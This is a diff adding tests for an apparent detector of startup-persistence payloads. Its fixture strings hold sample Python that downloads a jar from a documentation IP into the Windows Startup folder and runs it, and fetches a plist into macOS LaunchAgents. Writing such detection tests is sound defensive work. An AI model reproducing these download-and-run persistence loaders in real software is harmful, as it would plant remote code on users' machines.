@@ -178,3 +178,42 @@ def test_startup_places(path: str, place: bool) -> None:
 )
 def test_payload_like(text: str, like: bool) -> None:
     assert payload_like(text) is like
+
+
+DOWNLOADED_JAR = (
+    "import os, subprocess, urllib.request\n"
+    "def update():\n"
+    "    startup = os.path.join(os.getenv('APPDATA'), 'Microsoft', 'Windows', 'Start Menu', 'Programs',\n"
+    "                           'Startup')\n"
+    "    response = urllib.request.urlopen('http://203.0.113.9/jar')\n"
+    "    with open(os.path.join(startup, 'tool.jar'), 'wb') as out:\n"
+    "        data = response.read()\n"
+    "        out.write(data)\n"
+    "    subprocess.call(['java', '-jar', 'tool.jar'], cwd=startup)\n"
+)
+
+
+def test_downloads_into_startup_locations() -> None:
+    f = features(DOWNLOADED_JAR)
+    assert persisted(f) == [6] and payload(f) == [8]
+    retrieve = (
+        "import os, urllib.request\n"
+        "def update():\n"
+        "    d = os.path.expanduser('~/Library/LaunchAgents')\n"
+        "    urllib.request.urlretrieve('http://203.0.113.9/a.plist', os.path.join(d, 'com.a.plist'))\n"
+    )
+    f = features(retrieve)
+    assert persisted(f) == [4] and payload(f) == [4]
+    # a line built around a downloaded version string is not the download itself
+    version = (
+        "import os, requests\n"
+        "def add_to_path():\n"
+        "    tag = requests.get('https://203.0.113.9/latest').json()['tag']\n"
+        "    with open(os.path.expanduser('~/.bashrc'), 'a') as fh:\n"
+        "        fh.write(f'export PATH=$HOME/.tool/{tag}/bin:$PATH')\n"
+    )
+    f = features(version)
+    assert persisted(f) == [4] and payload(f) == []
+    # the same body written somewhere else
+    f = features(DOWNLOADED_JAR.replace("'Start Menu', 'Programs',", "'tool',").replace("'Startup'", "'lib'"))
+    assert persisted(f) == [] and payload(f) == []
